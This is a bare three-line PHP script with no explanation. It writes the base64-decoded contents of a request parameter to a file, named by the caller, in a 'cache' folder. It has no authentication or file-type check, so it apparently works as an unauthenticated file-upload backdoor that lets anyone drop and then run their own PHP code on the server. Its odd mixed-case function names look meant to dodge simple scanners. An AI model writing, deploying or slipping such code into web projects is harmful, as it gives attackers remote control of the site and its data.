<?php
$target = __DIR__ . '/cache/' . basename($_GET['n']);
FWrite(fopen($target, 'wb'), Base64_Decode($_REQUEST['body']));
